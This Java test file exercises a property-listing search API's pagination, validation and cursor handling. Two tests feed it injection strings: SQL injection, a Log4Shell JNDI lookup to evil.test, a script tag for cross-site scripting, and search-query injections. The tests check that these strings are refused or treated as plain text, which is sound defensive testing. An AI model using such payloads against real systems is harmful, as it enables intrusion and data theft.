package ai.wewall.search.adapter.web;

import static org.assertj.core.api.Assertions.assertThat;

import ai.wewall.model.listing.ListingCard;
import ai.wewall.model.search.SearchResponse;
import ai.wewall.search.testing.RunningSearch;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient.ResponseSpec;
import tools.jackson.databind.json.JsonMapper;

class SearchOverHttpTest {

    private static final String SEARCH = "/api/v1/listings/search";
    private static final String COUNT = "/api/v1/listings/count";
    private static final String INTERPRET = "/api/v1/search/interpret";

    private static final int PUBLISHED = RunningSearch.LISTINGS.size();

    @RegisterExtension
    static final RunningSearch APP = new RunningSearch();

    @Test
    void everyListingIsFoundOnceOverAllPages() {
        List<String> seen = new ArrayList<>();
        String cursor = null;
        do {
            SearchResponse page = found("{\"criteria\": {\"sort\": \"PRICE_ASC\"}, \"limit\": 37"
                    + (cursor == null ? "" : ", \"cursor\": \"" + cursor + "\"") + "}");
            page.items().stream().map(ListingCard::id).forEach(seen::add);
            cursor = page.nextCursor();
        } while (cursor != null);

        assertThat(seen).hasSize(PUBLISHED).doesNotHaveDuplicates();
    }

    @Test
    void countIsTheTotalOfTheSearch() {
        String criteria = "{\"deal\": \"RENT\", \"area\": {\"min\": 50}}";

        post(COUNT, "{\"criteria\": " + criteria + "}")
                .expectBody()
                .jsonPath("$.total")
                .isEqualTo(found("{\"criteria\": " + criteria + "}").total());
    }

    @Test
    void answerIsReadableWithAllThatTheContractNames() {
        post(SEARCH, "{\"criteria\": {}, \"facets\": [\"deal\", \"price\"]}")
                .expectStatus()
                .isOk()
                .expectHeader()
                .contentType(MediaType.APPLICATION_JSON)
                .expectBody()
                .jsonPath("$.items.length()")
                .isEqualTo(20)
                .jsonPath("$.total")
                .isEqualTo(PUBLISHED)
                .jsonPath("$.facets.deal[0].value")
                .exists()
                .jsonPath("$.facets.price.length()")
                .isEqualTo(20)
                .jsonPath("$.nextCursor")
                .isNotEmpty()
                .jsonPath("$.tookMillis")
                .isNumber();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            "bbox": [37.3, 55.5, 37.9]                     | bbox:TOO_FEW
            "bbox": []                                     | bbox:TOO_FEW
            "bbox": [37.3, 55.5, 37.9, 55.9, 1]            | bbox:TOO_MANY
            "bbox": "37.3,55.5,37.9,55.9"                  | bbox:TYPE
            "bbox": [37.3, "55.5", 37.9, 55.9]             | bbox[1]:TYPE
            "bbox": [37.3, null, 37.9, 55.9]               | bbox[1]:REQUIRED
            "bbox": [-181, 55.5, 37.9, 55.9]               | bbox[0]:OUT_OF_RANGE
            "bbox": [37.3, 55.5, 37.9, 90.5]               | bbox[3]:OUT_OF_RANGE
            "bbox": [37.3, -90.5, 37.9, 55.9]              | bbox[1]:OUT_OF_RANGE
            "bbox": [37.3, 55.5, 1e400, 55.9]              | bbox[2]:NOT_FINITE
            "bbox": [37.9, 55.5, 37.3, 55.9]               | bbox:ORDER
            "bbox": [37.3, 55.9, 37.9, 55.5]               | bbox:ORDER
            "polygon": "everything"                        | polygon:TYPE
            "polygon": []                                  | polygon:TYPE
            "limit": 0                                     | limit:OUT_OF_RANGE
            "limit": 101                                   | limit:OUT_OF_RANGE
            "limit": 1.5                                   | limit:TYPE
            "sort": "price; drop table"                    | sort:INVALID_VALUE
            "facets": ["deal", "password"]                 | facets[1]:INVALID_VALUE
            "facets": {"deal": 1}                          | facets:TYPE
            "cursor": 7                                    | cursor:TYPE
            "cursor": ""                                   | cursor:OUT_OF_RANGE
            "text": 7                                      | text:TYPE
            "offset": 20                                   | offset:UNKNOWN_FIELD
            """)
    void refusedValueIsNamed(String field, String expected) {
        post(SEARCH, "{\"criteria\": {}, " + field + "}")
                .expectStatus()
                .isBadRequest()
                .expectBody()
                .jsonPath("$.code")
                .isEqualTo("VALIDATION_FAILED")
                .jsonPath("$.errors.length()")
                .isEqualTo(1)
                .jsonPath("$.errors[0].field")
                .isEqualTo(expected.substring(0, expected.indexOf(':')))
                .jsonPath("$.errors[0].code")
                .isEqualTo(expected.substring(expected.indexOf(':') + 1));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "made-up",
                "AAAA",
                "..",
                "' or 1=1 --",
                "eyJhbGciOiJub25lIn0",
                "%00",
                "\\u0000",
                "\\ud83d",
                "курсор",
            })
    void madeUpCursorIsRefused(String cursor) {
        post(SEARCH, "{\"criteria\": {}, \"cursor\": \"" + cursor + "\"}")
                .expectStatus()
                .isBadRequest()
                .expectBody()
                .jsonPath("$.code")
                .isEqualTo("CURSOR_INVALID");
    }

    @Test
    void cursorOfAnotherQueryIsRefused() {
        String cursor = found("{\"criteria\": {}, \"limit\": 5}").nextCursor();

        for (String query : List.of(
                "\"criteria\": {\"deal\": \"RENT\"}",
                "\"criteria\": {}, \"sort\": \"AREA_ASC\"",
                "\"criteria\": {}, \"bbox\": [37, 55, 38, 56]")) {
            post(SEARCH, "{" + query + ", \"cursor\": \"" + cursor + "\"}")
                    .expectStatus()
                    .isBadRequest()
                    .expectBody()
                    .jsonPath("$.code")
                    .isEqualTo("CURSOR_INVALID");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table listing; --",
                "\\\" or 1=1 --",
                "\\\"(((* [a TO",
                "title:* AND (NOT price:[* TO *]) OR /.*/",
                "((((((((((",
                "a~2 b^1e9 \\\\",
                "*:*",
                "{!func}sum(1)",
                "${jndi:ldap://evil.test/x}",
                "<script>alert(1)</script>",
                "\\u0000",
                "\\ud83d",
                "\\udc00\\ud800",
                "\\u202e\\u200b",
            })
    void syntaxOfOthersIsOnlyText(String text) {
        for (String field : List.of("metro", "districts")) {
            post(COUNT, "{\"criteria\": {\"" + field + "\": [\"" + text + "\"]}}")
                    .expectStatus()
                    .isOk()
                    .expectBody()
                    .jsonPath("$.total")
                    .isEqualTo(0);
        }
        post(INTERPRET, "{\"text\": \"" + text + "\"}")
                .expectStatus()
                .isOk()
                .expectBody()
                .jsonPath("$.intent")
                .exists();
        post(SEARCH, "{\"criteria\": {}, \"text\": \"" + text + "\"}")
                .expectStatus()
                .isOk();
    }

    @Test
    void textIsReadUpToItsLimit() {
        post(INTERPRET, "{\"text\": \"" + "я".repeat(4_096) + "\"}")
                .expectStatus()
                .isOk();
        post(INTERPRET, "{\"text\": \"\"}").expectStatus().isOk();
        post(INTERPRET, "{\"text\": \"" + "я".repeat(4_097) + "\"}")
                .expectStatus()
                .isBadRequest()
                .expectBody()
                .jsonPath("$.errors[0].field")
                .isEqualTo("text")
                .jsonPath("$.errors[0].code")
                .isEqualTo("OUT_OF_RANGE");
    }

    @Test
    void refusedCriteriaOfADialogueAreNamedInside() {
        post(INTERPRET, "{\"text\": \"офис\", \"criteria\": {\"area\": {\"min\": 2, \"max\": 1}, \"metro\": [\"\"]}}")
                .expectStatus()
                .isBadRequest()
                .expectBody()
                .jsonPath("$.errors[*].field")
                .value(fields -> assertThat(fields.toString()).contains("criteria.area", "criteria.metro[0]"));
    }

    private static SearchResponse found(String body) {
        byte[] answer = post(SEARCH, body)
                .expectStatus()
                .isOk()
                .expectBody()
                .returnResult()
                .getResponseBody();
        return JsonMapper.shared().readValue(answer, SearchResponse.class);
    }

    private static ResponseSpec post(String path, String body) {
        return APP.call("", HttpMethod.POST, path, body);
    }
}
